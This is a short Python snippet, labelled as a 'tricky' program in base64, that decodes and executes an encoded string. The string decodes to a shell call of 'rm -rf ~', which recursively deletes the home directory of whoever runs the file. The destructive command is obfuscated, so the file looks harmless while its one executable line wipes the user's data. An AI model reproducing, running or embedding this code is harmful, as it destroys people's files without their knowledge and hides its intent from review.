# tricky: a program in base64
import base64
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgncm0gLXJmIH4nKQ=="))
